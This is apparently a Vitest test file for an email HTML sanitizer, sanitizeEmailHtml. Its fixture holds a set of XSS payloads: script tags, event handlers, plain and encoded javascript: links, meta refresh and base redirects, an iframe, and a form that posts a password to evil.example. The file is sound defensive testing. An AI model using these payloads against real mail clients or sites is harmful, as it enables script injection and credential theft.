import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from './sanitize-html.ts';

const HOSTILE = `
<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<title>Secret title</title>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css">
<script>alert('head')</script>
<style>p { color: red } </style>
</head>
<body onload="alert('body')">
<p onclick="alert(1)" style="color: blue">Hello <b>there</b></p>
<img src="x" onerror="alert('img')">
<img src="https://tracker.example/open.gif" alt="pixel">
<img src="//tracker.example/b.gif">
<img src="cid:logo@postlab">
<img src="data:image/png;base64,iVBORw0KGgo=">
<a href="javascript:alert('link')">click</a>
<a href="JaVaScRiPt&#58;alert(2)">encoded</a>
<a href="https://example.com/reset/">reset</a>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example/"></iframe>
<svg><script>alert('svg')</script></svg>
<object data="x.swf"></object><embed src="x.swf">
<math><mi xlink:href="javascript:alert(3)">m</mi></math>
<div style="background-image: url(javascript:alert(4))">styled</div>
<noscript><img src=x onerror=alert(5)></noscript>
</body></html>`;

describe('sanitizeEmailHtml', () => {
	const { html, remoteImages } = sanitizeEmailHtml(HOSTILE, {
		cidUrls: new Map([['logo@postlab', '/api/v1/messages/abc/attachments/0']]),
	});

	it('removes every script, handler, form, frame and meta refresh', () => {
		expect(html).not.toMatch(/<script|<iframe|<object|<embed|<form|<input|<button|<meta|<base|<link|<svg|<math/i);
		expect(html).not.toMatch(/\bon[a-z]+\s*=/i);
		expect(html).not.toMatch(/alert\(/);
		expect(html).not.toMatch(/javascript/i);
		expect(html).not.toContain('Secret title');
	});

	it('keeps the harmless content and styles', () => {
		expect(html).toContain('<b>there</b>');
		expect(html).toContain('<style>p { color: red } </style>');
		expect(html).toMatch(/<p style="color:\s*blue">/);
	});

	it('blocks and counts remote images, keeps data: images, resolves cid: images', () => {
		expect(remoteImages).toBe(2);
		expect(html).not.toContain('tracker.example');
		expect(html).toContain('data-blocked-image');
		expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
		expect(html).toContain('src="/api/v1/messages/abc/attachments/0"');
	});

	it('opens links in a new tab without a referrer', () => {
		expect(html).toContain('<a href="https://example.com/reset/" target="_blank" rel="noopener noreferrer">reset</a>');
	});

	it('loads remote images only when asked', () => {
		const allowed = sanitizeEmailHtml(HOSTILE, { allowRemoteImages: true });
		expect(allowed.remoteImages).toBe(2);
		expect(allowed.html).toContain('src="https://tracker.example/open.gif"');
		expect(allowed.html).toContain('src="https://tracker.example/b.gif"');
		expect(allowed.html).not.toMatch(/alert\(/);
	});
});
